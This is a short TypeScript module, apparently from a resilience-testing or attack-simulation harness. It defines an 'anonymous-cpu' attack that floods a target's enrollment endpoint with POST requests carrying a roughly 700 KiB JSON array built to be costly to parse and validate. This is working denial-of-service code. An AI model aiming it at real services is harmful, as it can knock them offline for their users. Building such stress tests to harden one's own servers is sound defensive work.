import { ENROLL_PATH } from "@halligan/protocol/link";
import type { Attack } from "../attack.ts";
import { floodHttp } from "./http-flood.ts";

const CONNECTIONS = 4;
const ELEMENTS = 350_000;

/** Valid JSON of about 700 KiB that costs much to validate. */
const BODY = `{"token":[${"1,".repeat(ELEMENTS - 1)}1]}`;

export const anonymousCpu: Attack = {
  name: "anonymous-cpu",
  point: 1,
  title: "Anonymous JSON bodies that are expensive to parse and validate",
  async start(target, signal) {
    return floodHttp(
      target,
      { connections: CONNECTIONS, request: () => ({ method: "POST", path: ENROLL_PATH, body: BODY }) },
      signal,
    );
  },
};
